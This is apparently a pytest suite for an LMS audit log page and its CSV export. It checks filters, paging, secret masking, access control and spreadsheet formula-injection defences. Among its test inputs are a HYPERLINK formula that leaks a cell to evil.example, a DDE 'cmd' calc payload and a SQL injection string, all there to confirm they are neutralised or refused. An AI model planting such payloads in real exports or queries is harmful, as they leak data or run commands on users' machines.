"""The audit log screen and its CSV: filters, paging, labels, secrets, formula injection,
bad input, access and the query count."""

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from flask_babel import force_locale
from sqlalchemy import delete, select

from assessments.roleplay.models import Submission
from courses.models import Enrollment
from lms.core import audit, clock
from lms.core.audit import AuditEntry
from lms.core.spreadsheet import safe_cell
from reports.services import audit_log
from reports.services.audit_log import AuditFilters
from reports.services.audit_words import AuditWords, type_label
from tests.conftest import PASSWORD

ROOT = Path(__file__).resolve().parents[2]
T0 = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def log(db, make_person, make_team):
    """A small log: an admin and an HR person acting on people, a team and the system."""
    admin = make_person(roles=("admin",), name="Ada Admin", employee_id="A0001",
                        email="ada@example.com")
    hr = make_person(roles=("hr",), name="Hui Ren 人事", employee_id="H0002",
                     email="hr@example.com")
    agent = make_person(name="Agnes Agent", employee_id="E0003")
    team = make_team("Front line")
    # The factories' own person.create / team.create entries would crowd every assertion.
    db.session.execute(delete(AuditEntry))
    entries = [
        (T0, admin, "person.deactivate", agent, "left the company 100%_done", {}),
        (T0 + timedelta(days=1), hr, "person.update", agent, "",
         {"before": {"roles": ["agent"]}, "after": {"roles": ["agent", "mentor"]}}),
        (T0 + timedelta(days=2), admin, "team.update", team, "", {"name": "Front line"}),
        (T0 + timedelta(days=3), None, "quiz.attempt_abandon", agent, "time ran out", {}),
        (T0 + timedelta(days=4), hr, "certificate.revoked", agent, HYPERLINK,
         {"serial": "-SA-1", "reset_token": "s3cret", "nested": {"password": "p"}}),
    ]
    for at, actor, action, obj, reason, details in entries:
        clock.freeze(at)
        audit.record(actor, action, obj, reason, **details)
    clock.freeze(None)
    db.session.commit()
    return {"admin": admin, "hr": hr, "agent": agent, "team": team}


def _actions(db, filters: AuditFilters) -> list[str]:
    return [e.action for e in audit_log.entries_page(filters).entries]


# The service


def test_newest_first_and_every_filter(db, log):
    agent, team = log["agent"], log["team"]
    assert _actions(db, AuditFilters()) == [
        "certificate.revoked", "quiz.attempt_abandon", "team.update", "person.update",
        "person.deactivate"]
    assert _actions(db, AuditFilters(actor="ada")) == ["team.update", "person.deactivate"]
    assert _actions(db, AuditFilters(actor="h0002")) == ["certificate.revoked", "person.update"]
    assert _actions(db, AuditFilters(actor="人事")) == ["certificate.revoked", "person.update"]
    assert _actions(db, AuditFilters(actor="HR@EXAMPLE")) == ["certificate.revoked",
                                                              "person.update"]
    assert _actions(db, AuditFilters(action="person.update")) == ["person.update"]
    assert _actions(db, AuditFilters(action="person.")) == ["person.update", "person.deactivate"]
    assert _actions(db, AuditFilters(object_type="Team")) == ["team.update"]
    assert _actions(db, AuditFilters(object_type="Team", object_id=str(team.id))) == [
        "team.update"]
    assert len(_actions(db, AuditFilters(object_type="Person", object_id=str(agent.id)))) == 4
    assert _actions(db, AuditFilters(date_from=date(2026, 3, 12))) == [
        "certificate.revoked", "quiz.attempt_abandon", "team.update"]
    assert _actions(db, AuditFilters(date_to=date(2026, 3, 11))) == [
        "person.update", "person.deactivate"]
    assert _actions(db, AuditFilters(date_from=date(2026, 3, 11),
                                     date_to=date(2026, 3, 11))) == ["person.update"]
    assert _actions(db, AuditFilters(reason="TIME RAN")) == ["quiz.attempt_abandon"]
    # % and _ are literal text, not wildcards.
    assert _actions(db, AuditFilters(reason="100%_")) == ["person.deactivate"]
    assert _actions(db, AuditFilters(reason="1%e")) == []
    assert _actions(db, AuditFilters(actor="a_a")) == []


def test_dates_are_days_in_the_readers_timezone(db, log):
    # 09:30 UTC on 10 March is 10 March in Shanghai but the evening of 9 March in Honolulu.
    from zoneinfo import ZoneInfo

    honolulu = AuditFilters(date_to=date(2026, 3, 9), tz=ZoneInfo("Pacific/Honolulu"))
    shanghai = AuditFilters(date_to=date(2026, 3, 9), tz=ZoneInfo("Asia/Shanghai"))
    assert _actions(db, honolulu) == ["person.deactivate"]
    assert _actions(db, shanghai) == []


def test_paging(db, log):
    for n in range(7):
        audit.record(log["admin"], "team.update", log["team"], f"rename {n}")
    db.session.commit()
    first = audit_log.entries_page(AuditFilters(), page=1, per_page=5)
    assert (first.total, first.pages, len(first.entries)) == (12, 3, 5)
    third = audit_log.entries_page(AuditFilters(), page=3, per_page=5)
    assert [e.action for e in third.entries][-1] == "person.deactivate"
    seen = [e.id for p in (1, 2, 3) for e in audit_log.entries_page(
        AuditFilters(), page=p, per_page=5).entries]
    assert len(seen) == len(set(seen)) == 12
    assert audit_log.entries_page(AuditFilters(), page=99, per_page=5).page == 3
    assert audit_log.entries_page(AuditFilters(), page=-4, per_page=5).page == 1


def test_details_hide_secrets_and_read_as_words(app, db, log):
    agent, manager = log["agent"], log["hr"]
    entry = audit.record(log["hr"], "person.update", agent,
                         before={"roles": ["agent"], "manager_id": None, "Password": "x"},
                         after={"roles": ["agent", "mentor"], "manager_id": manager.id,
                                "Password": "y"},
                         serial="S-1", reset_token="abc", changes={"name_zh": ["", "新"]})
    db.session.flush()
    with app.test_request_context():
        words = AuditWords(db.session, [entry])
        lines = dict(words.details(entry.details, audit_log.safe_details))
        assert words.object_name(entry) == agent.name
        assert lines["Roles"] == "agent → agent, mentor"
        assert lines["Manager"] == f"(none) → {manager.name}"
        assert lines["Serial number"] == "S-1"
        assert lines["Reset token"] == audit_log.HIDDEN
        assert lines["Name (Chinese)"] == "(none) → 新"
        assert "x" not in lines.values() and "y" not in str(lines)
        assert type_label("CertificationPath") == "Certification path"
    with app.test_request_context(), force_locale("zh_Hans_CN"):
        lines = dict(AuditWords(db.session, [entry]).details(entry.details,
                                                             audit_log.safe_details))
        assert lines["主管"].endswith(manager.name) and "序号" not in lines


def test_every_recorded_action_has_a_label():
    # The actions written by audit.record calls in the code (literals, and the certificate
    # events whose action is built from the event name).
    # Every top-level package (a new one is scanned without touching this test).
    packages = [d for d in ROOT.iterdir() if (d / "__init__.py").is_file() and d.name != "tests"]
    sources = [p for top in packages for p in top.rglob("*.py")]
    literal = re.compile(r'"([a-z0-9_]+\.[a-z0-9_]+)"')
    found = set()
    for path in sources:
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"audit\.record\((.{0,200})", text, re.S):
            found.update(literal.findall(match.group(1).split(")\n")[0]))
        for match in re.finditer(r'_event\(session, actor, certificate, "([a-z_]+)"', text):
            found.add(f"certificate.{match.group(1)}")
    found -= {name for name in found if name.split(".")[-1] in ("py", "csv")}
    assert found, "the source scan found no actions"
    assert found <= set(audit_log.ACTION_LABELS), sorted(found - set(audit_log.ACTION_LABELS))
    areas = {name.split(".")[0] + "." for name in audit_log.ACTION_LABELS}
    assert areas == set(audit_log.ACTION_AREAS)


def test_unknown_actions_show_raw(app):
    assert audit_log.action_label("plugin.something_new") == "plugin.something_new"
    assert audit_log.action_label("certificate.revoked") == "Certificate revoked"


def test_safe_cell():
    for payload in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK):
        assert safe_cell(payload) == "'" + payload
    for harmless in ("plain", "", "1-2", "a=b", "'=already"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    assert safe_cell(date(2026, 1, 1)) == date(2026, 1, 1)


# The CSV


def _csv(text: str) -> tuple[list[list[str]], list[dict]]:
    """(the preamble rows, the entries as dicts) of an exported file."""
    preamble, _, table = text.partition("\r\n\r\n")
    return (list(csv.reader(io.StringIO(preamble))),
            list(csv.DictReader(io.StringIO(table))))


def test_csv_lines(db, log):
    as_of = datetime(2026, 4, 1, 8, 0, tzinfo=UTC)
    filters = AuditFilters(actor="hui")
    preamble, rows = _csv("".join(audit_log.csv_lines(db.session, filters, as_of)))
    assert preamble == [["as_of", "2026-04-01T08:00:00Z"], ["filters", "actor=hui"]]
    assert list(rows[0]) == list(audit_log.CSV_COLUMNS)
    assert [r["action"] for r in rows] == ["certificate.revoked", "person.update"]
    revoked = rows[0]
    assert revoked["at"] == "2026-03-14T09:30:00Z"
    assert (revoked["actor_employee_id"], revoked["actor_name"]) == ("H0002", "Hui Ren 人事")
    assert revoked["object_type"] == "Person" and revoked["object_id"] == str(log["agent"].id)
    assert revoked["reason"] == "'" + HYPERLINK
    assert "s3cret" not in revoked["details"] and '"p"' not in revoked["details"]
    assert '"serial": "-SA-1"' in revoked["details"]  # inside JSON: starts with "{"


def test_csv_details_stay_readable_json(db, make_person):
    admin = make_person(roles=("admin",))
    audit.record(admin, "team.update", admin, "", name="上海热线", count=3)
    audit.record(admin, "team.update", admin, "", note="refresh_token rotated", level=2)
    db.session.commit()
    _, rows = _csv("".join(audit_log.csv_lines(db.session, AuditFilters(action="team.update"),
                                               datetime(2026, 4, 1, tzinfo=UTC))))
    assert [json.loads(r["details"]) for r in rows] == [
        {"note": "refresh_token rotated", "level": 2}, {"name": "上海热线", "count": 3}]
    assert "上海热线" in rows[1]["details"]  # not \\u-escaped


def test_csv_system_actor_and_no_filters(db, log):
    as_of = datetime(2026, 4, 1, tzinfo=UTC)
    preamble, rows = _csv("".join(audit_log.csv_lines(db.session, AuditFilters(), as_of)))
    assert preamble[1] == ["filters", "none"]
    system = next(r for r in rows if r["action"] == "quiz.attempt_abandon")
    assert system["actor_employee_id"] == "" and system["actor_name"] == ""


def test_csv_names_are_neutralised(db, make_person):
    attacker = make_person(roles=("admin",), name="=cmd|' /C calc'!A0", employee_id="+X1")
    audit.record(attacker, "team.update", attacker, "@SUM(1+1)*cmd")
    db.session.commit()
    _, rows = _csv("".join(audit_log.csv_lines(db.session, AuditFilters(),
                                               datetime(2026, 4, 1, tzinfo=UTC))))
    row = next(r for r in rows if r["action"] == "team.update")
    assert row["actor_name"].startswith("'=") and row["actor_employee_id"] == "'+X1"
    assert row["reason"] == "'@SUM(1+1)*cmd"


# Through HTTP


@pytest.fixture
def admin_client(client, auth, log):
    auth.login(log["admin"])
    return client


def test_page_shows_entries(admin_client, log):
    page = admin_client.get("/reports/audit")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "5 entries" in html
    assert "Certificate revoked" in html and "Account deactivated" in html
    assert "Hui Ren 人事" in html and "H0002" in html and "System" in html
    assert f'href="/people/{log["agent"].id}"' in html
    assert "s3cret" not in html
    assert "=HYPERLINK(&#34;http://evil.example" in html  # escaped text, never markup
    assert "/reports/audit.csv" in html


def test_page_filters_and_pages(admin_client, log, db):
    for n in range(55):
        audit.record(log["admin"], "team.update", log["team"], f"rename {n}")
    db.session.commit()
    html = admin_client.get("/reports/audit?action=team.&page=2").get_data(as_text=True)
    assert "56 entries" in html and "Page 2 of 2" in html and 'rel="prev"' in html
    assert "action=team." in html  # the pager keeps the filters
    html = admin_client.get("/reports/audit?action=person.&actor=ada").get_data(as_text=True)
    assert "1 entry" in html and "left the company" in html
    html = admin_client.get("/reports/audit?page=abc").get_data(as_text=True)
    assert "60 entries" in html


@pytest.mark.parametrize("query", [
    "date_from=yesterday", "date_from=2026-02-30", "action=certificate.explode",
    "action=%27%20OR%201%3D1--", "object_type=Nope", "date_from=2026-03-05&date_to=2026-03-01",
    "actor=" + "x" * 101, "reason=" + "y" * 201, "object_id=" + "9" * 61,
])
def test_bad_filters_are_refused_with_a_message(admin_client, log, query):
    for url in ("/reports/audit?", "/reports/audit.csv?"):
        response = admin_client.get(url + query)
        assert response.status_code == 400
        html = response.get_data(as_text=True)
        assert "Some filters are not valid" in html
        assert "left the company" not in html  # no entries, rather than unfiltered ones


def test_csv_download(admin_client, log):
    clock.freeze(datetime(2026, 4, 1, 8, 0, 5, tzinfo=UTC))
    response = admin_client.get("/reports/audit.csv?action=certificate.&date_from=2026-03-01")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert 'filename="audit-log-20260401T080005Z.csv"' in response.headers["Content-Disposition"]
    assert response.headers["X-Report-As-Of"] == "2026-04-01T08:00:05Z"
    assert response.headers["X-Report-Filters"] == "action=certificate.&date_from=2026-03-01"
    preamble, rows = _csv(response.get_data(as_text=True))
    assert preamble == [["as_of", "2026-04-01T08:00:05Z"],
                        ["filters", "action=certificate.; date_from=2026-03-01"]]
    assert [r["action"] for r in rows] == ["certificate.revoked"]
    assert rows[0]["reason"].startswith("'=HYPERLINK")


def test_chinese_page(admin_client, log, db):
    log["admin"].locale = "zh_Hans_CN"
    db.session.commit()
    html = admin_client.get("/reports/audit").get_data(as_text=True)
    assert "审计日志" in html and "证书已撤销" in html


def test_query_count_is_constant_in_the_number_of_entries(admin_client, log, db, make_person,
                                                          count_queries):
    def queries() -> int:
        with count_queries() as counter:
            assert admin_client.get("/reports/audit").status_code == 200
        return counter.count

    few = queries()
    for n in range(40):  # forty more entries, each by a different person
        actor = make_person(roles=("hr",))
        audit.record(actor, "person.update", log["agent"], f"change {n}")
    db.session.commit()
    after = queries()
    # Names are looked up once per object type on the page, never once per entry.
    assert after <= few, (few, after)


# Access (the role table in tests/test_access.py covers every role; these add the CSV)


@pytest.mark.parametrize("role", ["agent", "mentor", "manager", "hr"])
def test_only_admins(client, auth, make_person, role):
    auth.login(make_person(roles=(role,)))
    assert client.get("/reports/audit").status_code == 403
    assert client.get("/reports/audit.csv").status_code == 403


def test_signed_out_goes_to_login(client):
    for url in ("/reports/audit", "/reports/audit.csv"):
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_page_dates_follow_the_app_timezone(app_config, make_app, make_person, db):
    # 15:57 UTC on 10 March is 23:57 in Shanghai: still 10 March there (a pytz zone used
    # naively would put the day's start at 15:54 UTC and wrongly count it as 11 March).
    admin = make_person(roles=("admin",))
    db.session.execute(delete(AuditEntry))
    clock.freeze(datetime(2026, 3, 10, 15, 57, tzinfo=UTC))
    audit.record(admin, "team.update", admin, "late evening in Shanghai")
    clock.freeze(None)
    db.session.commit()
    shanghai = make_app({**app_config, "BABEL_DEFAULT_TIMEZONE": "Asia/Shanghai"})
    client = shanghai.test_client()
    client.post("/login", data={"login": admin.email, "password": PASSWORD})
    html = client.get("/reports/audit?date_from=2026-03-11").get_data(as_text=True)
    assert "0 entries" in html and "When (Asia/Shanghai)" in html
    html = client.get("/reports/audit?date_to=2026-03-10").get_data(as_text=True)
    assert "1 entry" in html and "11:57:00" in html


def test_a_proxy_is_recorded_as_the_person_behind_it(db, log):
    from werkzeug.local import LocalProxy

    proxy = LocalProxy(lambda: log["hr"])
    entry = audit.record(proxy, "people.import", proxy, count=2)
    assert (entry.object_type, entry.object_id) == ("Person", str(log["hr"].id))
    assert entry.actor_id == log["hr"].id


def test_a_page_of_fifty_names_its_people_in_one_query_per_type(db, demo_org, count_queries):
    """Entries on enrolments and role-play submissions are named "person · course/scenario":
    the people come in the same query as the objects, not one query per entry."""
    enrolments = db.session.scalars(select(Enrollment).order_by(Enrollment.id).limit(25)).all()
    submissions = db.session.scalars(select(Submission).order_by(Submission.id)
                                     .limit(50 - len(enrolments))).all()
    people = {e.person_id for e in enrolments} | {s.person_id for s in submissions}
    assert len(enrolments) + len(submissions) == 50 and len(people) > 10
    db.session.execute(delete(AuditEntry))
    for target in [*enrolments, *submissions]:
        audit.record(None, "enrolment.assign", target)
    db.session.commit()
    db.session.expunge_all()  # nothing named may come from the identity map
    entries = audit_log.entries_page(AuditFilters()).entries
    assert len(entries) == 50
    with count_queries() as counted:
        words = AuditWords(db.session, entries)
        names = [words.object_name(entry) for entry in entries]
    assert counted.count == 2  # one per object type on the page
    assert all(" · " in name for name in names)
